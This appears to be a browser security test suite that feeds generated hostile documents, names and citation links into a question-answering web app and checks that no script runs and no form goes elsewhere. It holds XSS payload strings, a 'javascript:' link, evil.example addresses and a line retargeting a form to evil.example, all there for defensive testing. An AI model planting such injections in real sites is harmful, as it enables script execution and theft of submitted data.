"""Drawn hostile documents, questions, answers, paths, reasons and names in a real Chromium: nothing of them works.

The browser's own console and its requests decide, and what became an element of a page.
"""

from collections.abc import Iterator, Sequence
from concurrent.futures import ProcessPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, replace
from multiprocessing import get_context
from typing import Any
from urllib.parse import quote

import pytest
from homes.memory import folder_in_memory
from hostile_files.hostile import MARK, PAYLOADS, Hostile, drawn
from http_scene.browser_steps import until
from http_scene.http_place import PEOPLE, Place, http_place
from http_scene.watched_browser import NEEDS_BROWSER, Watched, chromium, watched
from markupsafe import Markup
from running.soak_table import Figures

from bots.http.app import Service
from bots.http.page import rendering
from vouch.access import Directory, Person
from vouch.answering.answer_pieces import Piece

pytestmark = NEEDS_BROWSER
NAME = f"<img/{MARK}/src=x/onerror=window.ran=1>".lower()
GUESTS = Directory({**PEOPLE.people, NAME: Person(("ops",))}, PEOPLE.groups)
ADDRESSES = ("javascript:window.ran=1", f'https://a.example/"{MARK}="', f"//evil.example/'{MARK}")
OPERATORS_PAGES = tuple(f"/operate/{page}" for page in (
    "status", "runs", "answers", "acts", "versions", "sources", "documents?source=docs", "upload", "models", "quality",
    "quality/drift", "quality/gaps",
))


@dataclass
class Linked:
    """Answers whose citations name an address that a stranger chose."""

    questions: Any

    def __getattr__(self, name: str) -> Any:
        return getattr(self.questions, name)

    def look(self, named: str, reader: str, acts_for: Any = ()) -> Any:
        found = self.questions.look(named, reader, acts_for)
        if not found:
            return found
        address = ADDRESSES[int(found["id"], 16) % 3]
        return {**found, "citations": [{**one, "url": address} for one in found["citations"]]}


@contextmanager
def hostile_place(papers: Sequence[Hostile]) -> Iterator[Place]:
    def linked(service: Service) -> Service:
        questions: Any = Linked(service.questions)
        return replace(service, questions=questions)

    with folder_in_memory() as folder, \
            http_place(folder, {one.path: one.text for one in papers}, people=GUESTS, changed=linked) as place:
        yield place


def walk(seen: Watched, papers: Sequence[Hostile], every: int) -> tuple[int, int]:
    """Every answer, with a vote and its first citation for each so-manieth, and all else that shows these words.

    How many answers and citations were looked at.
    """
    asker, cited = seen.place.person(NAME), 0
    for number, one in enumerate(papers):
        answer = asker.post("/v1/ask", {"question": one.question}).json
        seen.open(f"/answers/{answer['id']}")
        if number % every:
            continue
        before = len(seen.sent)
        seen.page.fill("#reason", one.reason)
        seen.page.get_by_role("button", name="No", exact=True).click()
        seen.page.get_by_text("your vote is counted").wait_for()
        seen.look()
        assert seen.sent[before:] == ["/vote"]
        seen.open(f"/answers/{answer['id']}/trace")
        if answer["citations"]:
            cited += 1
            seen.open(f"/answers/{answer['id']}/citations/{answer['citations'][0]['number']}")
    for path in ("/questions", *OPERATORS_PAGES, *_named(papers[0])):
        seen.open(path)
    return len(papers), cited


def _named(one: Hostile) -> tuple[str, ...]:
    """Pages that repeat what an address says, and those of what is not there."""
    path, words = quote(f"docs:{one.path}", safe=""), quote(one.reason, safe="")
    return (f"/operate/access?document={path}&person={quote(NAME, safe='')}",
            f"/operate/access?document={words}&person={words}", f"/operate/person?person={words}",
            f"/operate/documents?source={words}&state={words}", f"/answers/{words[:150]}", f"/{words[:150]}",
            f"/?voted={words}")


def ask_on_the_page(seen: Watched, one: Hostile) -> None:
    """With the form, so that whatever the page shows while it waits is looked at as well."""
    seen.open("/")
    seen.page.fill("#question", one.question)
    seen.page.get_by_role("button", name="Ask").click()
    seen.page.locator("h1.question").wait_for(timeout=30_000)
    seen.look()


def run(browser: Any, seed: int, count: int, every: int = 1) -> tuple[int, int]:
    papers = drawn(seed, count)
    assert len({one.path for one in papers}) == count
    with hostile_place(papers) as place, watched(browser, place, NAME) as seen:
        for one in papers[:3]:
            ask_on_the_page(seen, one)
        done = walk(seen, papers, every)
        assert seen.wrong == []
    return done


def test_nothing_of_drawn_hostile_words_works(browser: Any) -> None:
    _, cited = run(browser, 7, 20)
    assert cited > 8


@pytest.mark.soak
def test_nothing_of_a_thousand_hostile_documents_and_answers_works(figures: Figures) -> None:
    with ProcessPoolExecutor(2, get_context("spawn")) as pool:
        done = list(pool.map(_hundred, range(10)))
    answers, cited = (sum(counts) for counts in zip(*done, strict=True))
    assert answers == 1_000 and cited > 150             # of the 200 whose citations are followed
    figures("hostile documents and answers in Chromium",
            f"{answers:,} documents and as many answers, {cited:,} citations opened",
            "0 scripts run, 0 requests to elsewhere, 0 forms hijacked")


def _hundred(seed: int) -> tuple[int, int]:
    with chromium() as browser:
        return run(browser, seed, 100, every=5)


@pytest.mark.parametrize("field", ["question", "text", "quote"])
def test_a_field_that_is_not_escaped_is_seen(browser: Any, field: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if field == "text":
        monkeypatch.setattr(rendering, "paragraphs", lambda answer: [[Piece(Markup(PAYLOADS[4]))]])

    @dataclass
    class Raw(Linked):
        """Plants words that the page takes for its own."""

        def look(self, named: str, reader: str, acts_for: Any = ()) -> Any:
            found = self.questions.look(named, reader, acts_for)
            evil = {field: Markup(PAYLOADS[4])}
            return found and {
                **found, **(evil if field == "question" else {}),
                "citations": [{**one, **(evil if field in one else {})} for one in found["citations"]],
            }

    def raw(service: Service) -> Service:
        questions: Any = Raw(service.questions)
        return replace(service, questions=questions)

    with folder_in_memory() as folder, http_place(folder, people=GUESTS, changed=raw) as place, \
            watched(browser, place, "ana") as seen:
        answer = place.person("ana").post("/v1/ask", {"question": "How many days of paid leave has everybody?"}).json
        assert answer["sentences"] and answer["citations"]
        seen.open(f"/answers/{answer['id']}")
        assert any("an element of theirs" in one for one in seen.wrong)
        assert any("Content Security Policy" in one for one in seen.wrong)


def test_pages_that_escape_nothing_are_seen(browser: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    made = rendering._environment()
    made.autoescape = False
    monkeypatch.setattr(rendering, "_environment", lambda: made)
    papers = drawn(1, 1)
    with hostile_place(papers) as place, watched(browser, place, NAME) as seen:
        for path in ("/operate/documents?source=docs", "/"):       # a path, a name
            seen.wrong.clear()
            seen.open(path)
            assert any("an element of theirs" in one for one in seen.wrong)


def test_a_form_that_goes_elsewhere_is_seen(browser: Any) -> None:
    with folder_in_memory() as folder, http_place(folder, works=False) as place, watched(browser, place, "ana") as seen:
        seen.open("/")
        assert seen.wrong == []
        seen.page.evaluate("document.forms[0].action = 'https://evil.example/'")
        seen.look()
        assert seen.wrong == ["a form for https://evil.example/"]
        seen.page.fill("#question", "x")
        seen.page.evaluate("document.forms[0].submit()")
        until(seen.page, lambda: any("form-action" in one for one in seen.wrong))
